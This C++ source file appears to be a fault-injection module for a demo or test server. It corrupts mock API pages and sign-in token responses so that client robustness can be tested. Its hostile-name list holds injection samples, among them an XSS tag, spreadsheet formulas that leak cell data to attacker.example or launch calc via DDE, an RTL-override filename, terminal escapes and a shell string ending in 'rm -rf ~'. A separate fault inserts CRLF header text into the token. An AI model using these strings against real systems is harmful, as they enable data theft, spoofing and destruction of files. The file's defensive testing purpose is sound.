// SPDX-FileCopyrightText: 2026 The Vestibule authors
// SPDX-License-Identifier: MIT

#include "demo/faultmutations.h"

#include <array>
#include <nlohmann/json.hpp>
#include <string>

using namespace Qt::StringLiterals;

namespace Vestibule::Demo {

using Json = nlohmann::ordered_json;

namespace {

//! A name that a careless program would execute, cut or draw wrongly; index picks one of a few.
std::string hostileName(size_t index)
{
    static const std::array<std::string, 10> names{
        "<img src=x onerror=alert(1)><b>bold</b>",
        "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click\")",
        "+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "invoice\xE2\x80\xAEgnp.exe", // U+202E, right-to-left override
        std::string("bell\x07 escape\x1b[31m nul\0 end", 26),
        "first line\nsecond line\r\nthird\tcell,\"quoted\"",
        std::string(4000, 'W'),
        "&lt;script&gt; %1 %2 %n $(id) `id` ; rm -rf ~",
    };
    return names.at(index % names.size());
}

void setNull(Json &row, const char *key)
{
    if (row.contains(key))
        row[key] = nullptr;
}

void makeNull(Json &row)
{
    for (const char *key :
         {"is_signup_enabled", "assign_membership_on_login", "show_as_button", "is_enabled",
          "organization_access_level", "organization_member_access_level", "display_name"})
        setNull(row, key);
    row[row.contains("connection_id") ? "organization_connection_name" : "branding"] = nullptr;
}

void makeUnknown(Json &row)
{
    if (row.contains("connection")) {
        row["organization_access_level"] = "superuser";
        row["organization_member_access_level"] = "guest";
        row["connection"]["strategy"] = "quantum-id";
        row["connection"]["realms"] = Json::array({"alpha", "beta"});
    }
    row["provisioning"] = {{"scim", true}, {"since", 2031}};
    row["weight"] = 0.25;
}

void makeHostile(Json &row, size_t index)
{
    const bool isConnection = row.contains("connection");
    row[isConnection ? "organization_connection_name" : "display_name"] = hostileName(index + 1);
    (isConnection ? row["connection"] : row)["name"] = hostileName(index);
}

void makeAnonymous(Json &row)
{
    row.erase("connection_id");
    row.erase("id");
}

void mutateRows(Json &rows, const Faults &faults)
{
    for (size_t index = 0; index < rows.size(); ++index) {
        Json &row = rows[index];
        if (faults.contains(Fault::HostileNames)) {
            makeHostile(row, index);
        }
        const bool everyOther = index % 2 == 0;
        if (everyOther && faults.contains(Fault::NullValues))
            makeNull(row);
        if (everyOther && faults.contains(Fault::UnknownValues))
            makeUnknown(row);
        if (everyOther && faults.contains(Fault::MissingConnection))
            row.erase("connection");
    }
    if (faults.contains(Fault::MissingId) && !rows.empty())
        makeAnonymous(rows[rows.size() / 2]);
    if (faults.contains(Fault::ShortPage) && !rows.empty())
        rows.erase(rows.size() - 1);
    if (faults.contains(Fault::DuplicateRow) && rows.size() > 1)
        rows[1] = rows[0];
}

} // namespace

Connection grownConnection(int number)
{
    Connection connection;
    connection.id = u"con_zzzzzzzzz%1"_s.arg(number, 7, 10, QChar(u'0'));
    connection.name = u"grown-%1"_s.arg(number);
    connection.strategy = u"oidc"_s;
    connection.accessLevel = u"none"_s;
    return connection;
}

void mutatePage(Json &page, Route::Kind kind, const Faults &faults)
{
    const std::string rows = rowsKey(kind).toStdString();
    mutateRows(page[rows], faults);
    if (faults.contains(Fault::FractionalTotal) && page.contains("total"))
        page["total"] = page["total"].get<double>();
    if (faults.contains(Fault::UnknownValues)) {
        // The next of a list with checkpoints must stay one.
        const bool hasCheckpoints =
            kind == Route::Kind::Organizations || kind == Route::Kind::Catalogue;
        page[hasCheckpoints ? "later" : "next"] = "later";
    }
    if (faults.contains(Fault::UnknownValues) && kind == Route::Kind::Catalogue) {
        for (Json &row : page[rows]) // the request does not ask for them
            row["options"] = {{"client_secret", "a-secret-of-a-connection"}};
    }
    if (faults.contains(Fault::WrongShape)) {
        Json other;
        for (const auto &[key, value] : page.items())
            other[key == rows ? "rows" : key] = value;
        page = std::move(other);
    }
}

void mutateToken(Json &answer, const Faults &faults)
{
    constexpr int aDate = 1'900'000'000; // in 2030
    if (faults.contains(Fault::SignInNoToken))
        answer.erase("access_token");
    if (faults.contains(Fault::SignInBadToken))
        answer["access_token"] = answer["access_token"].get<std::string>() + "\r\nX-Header: 1";
    if (faults.contains(Fault::SignInTokenType))
        answer["token_type"] = "DPoP";
    if (faults.contains(Fault::SignInNoLifetime))
        answer.erase("expires_in");
    if (faults.contains(Fault::SignInTextLifetime))
        answer["expires_in"] = "86400";
    if (faults.contains(Fault::SignInZeroLifetime))
        answer["expires_in"] = 0;
    if (faults.contains(Fault::SignInEndlessLifetime))
        answer["expires_in"] = aDate;
    if (faults.contains(Fault::SignInFractionalLifetime))
        answer["expires_in"] = answer["expires_in"].get<double>() + 0.5;
    if (faults.contains(Fault::SignInNullToken))
        answer["access_token"] = nullptr;
    if (faults.contains(Fault::SignInLowerCaseType))
        answer["token_type"] = "bearer";
    if (faults.contains(Fault::SignInScopeList))
        answer["scope"] = Json::array({answer["scope"]});
    if (faults.contains(Fault::WrongShape))
        answer = Json::array({answer});
}

void mutateBody(Answer &answer, const Faults &faults)
{
    if (answer.status != 200 || answer.delivery != Delivery::Whole)
        return;
    if (faults.contains(Fault::NotUtf8)) {
        const QByteArray name = "\"name\":\"";
        const qsizetype first = answer.body.indexOf(name);
        if (first >= 0)
            answer.body.insert(first + name.size(), "caf\xe9 "); // Latin-1
    }
    if (faults.contains(Fault::Bom))
        answer.body.prepend("\xef\xbb\xbf");
    if (faults.contains(Fault::TrailingGarbage))
        answer.body.append("\n-- served by proxy 7 --\n");
}

void mutateDelivery(Answer &answer, const Faults &faults)
{
    if (answer.status == 200 && answer.delivery == Delivery::Whole) {
        if (faults.contains(Fault::Truncated))
            answer.delivery = Delivery::Truncated;
        else if (faults.contains(Fault::StallInBody))
            answer.delivery = Delivery::Stalled;
    }
    if (faults.contains(Fault::Slow))
        answer.delay += std::chrono::milliseconds(800);
}

} // namespace Vestibule::Demo
